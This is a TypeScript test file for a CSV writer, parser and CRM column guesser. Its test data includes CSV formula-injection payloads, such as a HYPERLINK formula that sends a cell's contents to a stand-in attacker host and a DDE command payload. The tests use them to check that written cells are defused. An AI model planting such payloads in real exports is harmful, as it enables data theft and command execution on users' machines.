import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { guessColumns } from '../../../shared/csv/import-columns.ts';
import { parseCsv } from '../../../shared/csv/parse.ts';
import { csvLine, defuse, undefuse } from '../../../shared/csv/write.ts';

const tab = String.fromCharCode(9);
const formulas = [
  '=1+1',
  '=HYPERLINK("https://evil.example?x="&A1,"click")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-1+1',
  '@SUM(A1)',
  `${tab}=1+1`,
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '  +1',
  '\u00a0=1+1',
  '\u3000=1+1',
  '\u200b=1+1',
  '\ufeff=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(A1)',
  `${tab}x`,
  '\rx',
  '"=1+1',
  "'=1+1",
  ';=1+1',
  ',=1+1',
  '\r\n=1+1',
];
/** What a spreadsheet would evaluate, told apart from how the writer tells it. */
const isFormula = (cell: string) =>
  /^[=+\-@＝＋－＠\t\r]/.test(cell.replace(/^[\s\u200b]+(?=[=+\-@＝＋－＠])/, ''));

describe('CSV that is written', () => {
  it.each(formulas)('lets no formula through: %j', (formula) => {
    const { rows } = parseCsv(`a,b\r\n${csvLine([formula, `x${formula}`])}`);
    expect(rows[1]).toHaveLength(2);
    expect(isFormula(rows[1]?.[0] ?? '=')).toBe(false);
  });

  it('lets none through in whatever text, in whatever cell it would land', () => {
    fc.assert(
      fc.property(fc.array(fc.string({ unit: 'binary' }), { minLength: 1, maxLength: 4 }), (cells) => {
        for (const delimiter of [',', ';', tab]) {
          const landed = csvLine(cells)
            .split(delimiter)
            .flatMap((part) => part.split(/\r\n|\r|\n/));
          // Read by whatever delimiter, a part that begins a cell outside quotes is none.
          const { rows } = parseCsv(csvLine(cells));
          expect(rows.flat().some(isFormula)).toBe(false);
          expect(landed[0] === undefined || !isFormula(landed[0])).toBe(true);
        }
      }),
    );
  });

  it('is read again as it was', () => {
    fc.assert(
      fc.property(
        fc.array(fc.array(fc.string(), { minLength: 2, maxLength: 5 }), { minLength: 1 }),
        (table) => {
          const width = Math.max(...table.map((row) => row.length));
          const even = table.map((row) => [...row, ...Array(width - row.length).fill('x')]);
          const read = parseCsv(
            ['h'.repeat(3), ...Array(width - 1).fill('h')]
              .join(',')
              .concat('\r\n', even.map(csvLine).join('')),
          );
          expect(read.rows.slice(1).map((row) => row.map(undefuse))).toEqual(even);
        },
      ),
    );
  });

  it('leaves plain cells alone', () => {
    for (const cell of ['Northwind', '北风机器人', '12', "O'Hara", 'a=b', 'x-y', ''])
      expect(defuse(cell)).toBe(cell);
  });
});

describe('CSV that is read', () => {
  it.each([
    [
      'commas',
      'a,b\r\n1,2',
      [
        ['a', 'b'],
        ['1', '2'],
      ],
    ],
    [
      'semicolons',
      'a;b\n1,5;2',
      [
        ['a', 'b'],
        ['1,5', '2'],
      ],
    ],
    [
      'tabs',
      `a${tab}b\n1${tab}2`,
      [
        ['a', 'b'],
        ['1', '2'],
      ],
    ],
    [
      'a byte order mark',
      '\ufeffa,b\n1,2\n',
      [
        ['a', 'b'],
        ['1', '2'],
      ],
    ],
    [
      'quotes',
      'a,b\n"x, ""y""","l1\nl2"',
      [
        ['a', 'b'],
        ['x, "y"', 'l1\nl2'],
      ],
    ],
    [
      'old line ends',
      'a,b\r1,2\r',
      [
        ['a', 'b'],
        ['1', '2'],
      ],
    ],
    [
      'empty lines',
      '\n\na,b\n\n1,2\n\n',
      [
        ['a', 'b'],
        ['1', '2'],
      ],
    ],
    [
      'an empty last cell',
      'a,b\n1,',
      [
        ['a', 'b'],
        ['1', ''],
      ],
    ],
    ['nothing', '', []],
  ])('may have %s', (_, text, rows) => {
    expect(parseCsv(text).rows).toEqual(rows);
  });

  it('says where a quote was never closed', () => {
    expect(parseCsv('a,b\n"x,y').openQuote).toBe(1);
  });

  it('says on which line each row begins, as an editor counts them', () => {
    expect(parseCsv('a,b\r\n\r\n"x\r\ny",1\nz,2\rw,3').lines).toEqual([1, 3, 5, 6]);
  });
});

describe('the columns of a CRM', () => {
  it.each([
    [
      'HubSpot',
      [
        'Record ID',
        'Company name',
        'Company Domain Name',
        'Industry',
        'Number of Employees',
        'Country/Region',
      ],
      { name: 1, domain: 2, industry: 3, employees: 4, country: 5 },
    ],
    [
      'Salesforce',
      ['Account Name', 'Website', 'Billing City', 'Billing Country', 'Employees', 'Description', 'Phone'],
      { name: 0, domain: 1, city: 2, country: 3, employees: 4, description: 5, phone: 6 },
    ],
    [
      'a Chinese CRM',
      ['客户名称', '官网', '所属行业', '员工人数', '联系人', '职务', '标签', '跟进阶段', '备注'],
      { name: 0, domain: 1, industry: 2, employees: 3, person: 4, title: 5, tags: 6, stage: 7, note: 8 },
    ],
    ['nobody', ['foo', 'bar'], {}],
    ['a column for one field alone', ['Name', 'Company'], { name: 1 }],
  ])('of %s are known by their headers', (_, header, map) => {
    expect(guessColumns(header)).toEqual(map);
  });
});
